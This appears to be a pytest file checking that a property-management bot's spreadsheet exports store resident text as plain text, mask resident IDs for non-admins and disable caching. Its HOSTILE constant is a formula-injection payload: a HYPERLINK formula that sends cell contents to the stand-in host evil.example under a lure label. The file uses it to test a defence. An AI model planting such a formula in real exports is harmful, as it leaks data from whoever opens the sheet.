"""Exports (issue 12, findings 8 and 14): resident text never becomes a spreadsheet formula, the FAQ
export imports back unchanged, and the ledger masks open_ids unless an admin asks for them."""
from __future__ import annotations

import io
import zipfile
from dataclasses import replace

from openpyxl import load_workbook

from bot.faq_store import revisions as faq_store
from bot.faq_store.xlsx import read_xlsx, xlsx_bytes
from tests.web.helpers import login, open_ticket

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取补贴")'
RISKY = [HOSTILE, "+86 138 0000 0000 怎么拨", "-1楼的车库门坏了", "@物业 在吗", "\t=1+1", "\r=2+2"]


def _formulas(xlsx: bytes) -> list[str]:
    """Every <f> element in the workbook's sheets (a formula Excel would evaluate)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_a_resident_formula_is_text_in_the_ledger(console, admin):
    number = open_ticket(console, HOSTILE, as_="o_formula_resident")
    data = admin.get("/admin/dashboard/ledger.xlsx?from=2026-11-20&to=2026-12-02").data
    assert _formulas(data) == []
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=3))
    cell = next(r for r in rows if r[0].value == number)[7]  # 诉求内容
    assert cell.value == HOSTILE and cell.data_type == "s" and cell.quotePrefix


def test_the_faq_export_keeps_risky_text_and_imports_back_unchanged(console):
    with console.session() as s:
        base = faq_store.export_entries(s)[0]
        entry = replace(base, question=RISKY[2] + "怎么报修", answer=HOSTILE + "\n-请先拨打值班电话",
                        alt_questions=tuple(RISKY[1:4]), tags=("@物业", "=标签"))
        faq_store.save(s, entry, "test", console.clock.now())
        exported = faq_store.export_entries(s)
    data = xlsx_bytes(exported)
    assert _formulas(data) == []
    again = read_xlsx(io.BytesIO(data), "faq.xlsx", existing={e.id: e for e in exported})
    assert again == exported


def test_the_ledger_masks_open_ids_unless_an_admin_asks(console, admin):
    open_ticket(console, "楼道的灯坏了好几天了", as_="o_private_resident_9f3k")
    url = "/admin/dashboard/ledger.xlsx?from=2026-11-20&to=2026-12-02"

    def residents(client, query=""):
        ws = load_workbook(io.BytesIO(client.get(url + query).data)).active
        return [r[2] for r in ws.iter_rows(min_row=3, values_only=True)]

    assert residents(admin) == ["…9f3k"]
    assert residents(admin, "&full_ids=1") == ["o_private_resident_9f3k"]
    lead = login(console, "张伟")
    assert residents(lead, "&full_ids=1") == ["…9f3k"]  # only admins may ask


def test_console_pages_with_resident_data_are_never_cached(console, admin):
    number = open_ticket(console, "楼道的灯坏了好几天了", as_="o_cache_resident")
    for path in (f"/admin/tickets/{number}", "/admin/tickets/", "/admin/dashboard/ledger.xlsx", "/admin/login"):
        assert admin.get(path).headers.get("Cache-Control") == "no-store", path
    assert "no-store" not in (console.app.test_client().get("/healthz").headers.get("Cache-Control") or "")


def test_the_incident_ledger_keeps_risky_text_as_text(desk):
    from bot.db.models import Incident
    from bot.incidents.ledger import xlsx

    with desk.session() as s:
        s.add(Incident(kind="outage", status="open", title=HOSTILE, created_at=desk.clock.now(),
                       last_update="-停水至18点"))
    with desk.session() as s:
        data = xlsx(s, desk.settings)
    assert _formulas(data) == []
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2) for c in row]
    assert any(c.value == HOSTILE and c.data_type == "s" for c in cells)
